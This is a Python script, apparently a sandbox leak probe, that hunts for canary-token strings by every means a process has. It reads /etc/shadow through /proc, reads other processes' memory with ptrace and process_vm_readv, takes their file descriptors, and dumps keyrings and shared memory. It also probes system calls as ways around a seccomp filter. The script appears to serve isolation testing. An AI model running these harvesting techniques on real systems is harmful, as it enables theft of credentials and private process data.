"""Runs behind the walls, as a script or as the body of a plugin: looks for secrets wherever a process can look.

It may use the standard library only, and knows of the secrets no more than what they look like.
"""

from __future__ import annotations

import contextlib
import ctypes
import mmap
import os
import re
import socket
import struct
from collections.abc import Callable, Iterator, Mapping

WANTED = re.compile(rb"canary-[0-9a-f]{18}|Y2FuYXJ5L[A-Za-z0-9+/]{20}|(?:63616e6172792d)[0-9a-f]{30}")
FOLDERS = (
    "/tmp",
    "/work",
    "/dev",
    "/var",
    "/etc",
    "/run",
    "/home",
    "/root",
    "/opt",
    "/srv",
    "/mnt",
    "/sys",
    "/proc/sys",
)
KERNEL = ("/proc/kcore", "/proc/kmsg", "/dev/mem", "/dev/kmem", "/proc/keys", "/proc/key-users", "/proc/net/unix")
IPC = (
    "/proc/sysvipc/shm",
    "/proc/sysvipc/msg",
    "/proc/sysvipc/sem",
    "/proc/locks",
    "/proc/cgroups",
    "/proc/timer_list",
)
LARGEST = 1 << 22
PAGES = 64 << 20
PAGE, NEAR = 1 << 12, 24 << 20

SHMCTL, MSGRCV, PTRACE, KEYCTL, PERF, READV, USERFAULT, URING, PIDFD, GETFD = (
    *(31, 70, 101, 250, 298, 310, 323, 425, 434, 438),
)
"""Numbers of system calls on x86-64."""
ATTACH, DETACH, SHM_STAT, DESCRIBE, READ = 16, 17, 13, 6, 11


def hunt() -> Mapping[str, object]:
    """What was found, and how often each way gave something to look at."""
    found: set[bytes] = set()
    looked: dict[str, int] = {}
    for way in (
        processes,
        memory,
        inherited,
        fresh_pages,
        descriptors,
        files,
        keyrings,
        shared_memory,
        rings,
        others_memory,
    ):
        for content in _tried(way):
            looked[way.__name__] = looked.get(way.__name__, 0) + 1
            found.update(WANTED.findall(content))
    return {"found": sorted(one.decode() for one in found), "looked": looked}


def _tried(way: Callable[[], Iterator[bytes]]) -> Iterator[bytes]:
    """What the way gives, until it is refused."""
    with contextlib.suppress(OSError, ValueError, OverflowError, MemoryError, AttributeError):
        yield from way()


def _read(path: str) -> bytes:
    try:
        file = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    except OSError:
        return b""
    try:
        return os.read(file, LARGEST)
    except OSError:
        return b""
    finally:
        os.close(file)


def processes() -> Iterator[bytes]:
    """All that /proc tells of each process, and what lies behind its descriptors, its root and its folder."""
    for name in filter(str.isdigit, os.listdir("/proc")):
        for top, _, names in os.walk(f"/proc/{name}"):
            yield from (_read(os.path.join(top, one)) for one in names if one not in ("mem", "kmsg", "pagemap"))
        for number in range(64):
            yield _read(f"/proc/{name}/fd/{number}")
        for place in ("root/proc/1/environ", "root/etc/shadow", "cwd/.script.py", "exe"):
            yield _read(f"/proc/{name}/{place}")


def memory() -> Iterator[bytes]:
    """Every page that is mapped into any process, ours included: what was there before us would be among them."""
    for name in filter(str.isdigit, os.listdir("/proc")):
        for begin, end in _maps(name):
            with contextlib.suppress(OSError, ValueError, OverflowError), open(f"/proc/{name}/mem", "rb", 0) as pages:
                pages.seek(begin)
                yield pages.read(min(end - begin, PAGES))


def _maps(process: str) -> Iterator[tuple[int, int]]:
    for line in _read(f"/proc/{process}/maps").decode().splitlines():
        begin, end = (int(one, 16) for one in line.split()[0].split("-"))
        yield begin, end


def inherited() -> Iterator[bytes]:
    """Our own pages around objects old and new and around our environment: the process that made us left its own there.

    The kernel is asked for each page, as it is the one that does not fall over pages which are not there.
    """
    library = ctypes.CDLL(None)
    end, begin = os.pipe()
    places = (id(object()), id(os), id(""), ctypes.addressof(ctypes.create_string_buffer(1 << 20)))
    environment = ctypes.cast(ctypes.c_void_p.in_dll(library, "environ").value or 0, ctypes.c_void_p).value or 0
    for place in (*places, environment):
        for page in range(max(place - NEAR, 0) & -PAGE, place + NEAR, PAGE):
            if library.write(begin, ctypes.c_void_p(page), PAGE) > 0:
                yield os.read(end, PAGE)


def fresh_pages() -> Iterator[bytes]:
    """Memory and disk that were somebody else's a moment ago."""
    with mmap.mmap(-1, PAGES) as pages:
        yield bytes(pages)
    library = ctypes.CDLL(None)
    library.malloc.restype = ctypes.c_void_p
    for size in (64, 256, 1024, 4096, 1 << 16, 1 << 20):
        for _ in range(64):
            place = library.malloc(size)
            yield ctypes.string_at(place, size) if place else b""
    for folder in ("/tmp", "/work", "/dev/shm"):
        with contextlib.suppress(OSError), open(f"{folder}/.hole", "wb+") as file:
            os.posix_fallocate(file.fileno(), 0, LARGEST)
            yield file.read(LARGEST)


def descriptors() -> Iterator[bytes]:
    """What was left unread in descriptors that we were born with, and in those of other processes."""
    library = ctypes.CDLL(None, use_errno=True)
    taken = list(range(3, 64))
    for process in filter(str.isdigit, os.listdir("/proc")):
        other = library.syscall(PIDFD, int(process), 0)
        taken += [library.syscall(GETFD, other, number, 0) for number in range(32)] if other >= 0 else []
    for number in (one for one in taken if one >= 0):
        with contextlib.suppress(OSError), socket.socket(fileno=os.dup(number)) as end:
            yield end.recv(LARGEST, socket.MSG_PEEK | socket.MSG_DONTWAIT)
        with contextlib.suppress(OSError):
            yield os.pread(number, LARGEST, 0)


def files() -> Iterator[bytes]:
    """Whatever can be read where things are left, the kernel's own files and control groups included."""
    yield repr(dict(os.environ)).encode()
    yield from map(_read, (*KERNEL, *IPC))
    for top in (*FOLDERS, os.getcwd()):
        for folder, _, names in os.walk(top):
            yield from (_read(os.path.join(folder, name)) for name in names)
            yield " ".join(names).encode()


def keyrings() -> Iterator[bytes]:
    """Keys of the thread, the process, the session and the user, and those with small numbers."""
    library = ctypes.CDLL(None, use_errno=True)
    for key in (*range(-8, 0), *range(1, 2_000)):
        for wish in (DESCRIBE, READ):
            text = ctypes.create_string_buffer(1 << 12)
            if library.syscall(KEYCTL, wish, key, text, len(text)) > 0:
                yield text.raw


def shared_memory() -> Iterator[bytes]:
    """Segments and queues of System V, whoever made them."""
    library = ctypes.CDLL(None, use_errno=True)
    about, message = ctypes.create_string_buffer(512), ctypes.create_string_buffer(1 << 13)
    library.shmat.restype = ctypes.c_void_p
    for index in range(256):
        identifier = library.syscall(SHMCTL, index, SHM_STAT, about)
        if identifier >= 0 and (place := library.shmat(identifier, None, 0o10000)) not in (None, 2**64 - 1):
            yield ctypes.string_at(place, struct.unpack_from("q", about.raw, 48)[0])
        if library.syscall(MSGRCV, index, message, 1 << 12, 0, 0o4000) > 0:
            yield message.raw


def rings() -> Iterator[bytes]:
    """Ways around the filter of system calls: each gives a descriptor, which would be worth a look."""
    library = ctypes.CDLL(None, use_errno=True)
    about = ctypes.create_string_buffer(256)
    for call, arguments in ((URING, (8, about)), (USERFAULT, (0,)), (PERF, (about, -1, 0, -1, 0))):
        if (got := library.syscall(call, *arguments)) >= 0:
            yield os.readlink(f"/proc/self/fd/{got}").encode()
            os.close(got)


def others_memory() -> Iterator[bytes]:
    """The memory of parents and neighbours, asked of the kernel: numbers of processes that we do not see, too."""
    library = ctypes.CDLL(None, use_errno=True)
    page = ctypes.create_string_buffer(1 << 16)
    seen = {int(name) for name in os.listdir("/proc") if name.isdigit()} - {os.getpid()}
    for process in (*sorted(seen), os.getppid(), *range(1, 4_000)):
        places = list(_maps(str(process))) or [(0x400000, 0x410000)]
        for begin, end in places:
            ours = struct.pack("QQ", ctypes.addressof(page), len(page))
            theirs = struct.pack("QQ", begin, min(end - begin, len(page)))
            if library.syscall(READV, process, ours, 1, theirs, 1, 0) > 0:
                yield page.raw
        if process in seen and library.syscall(PTRACE, ATTACH, process, 0, 0) == 0:
            yield from (_read(f"/proc/{process}/{name}") for name in ("environ", "auxv", "syscall", "stack"))
            library.syscall(PTRACE, DETACH, process, 0, 0)
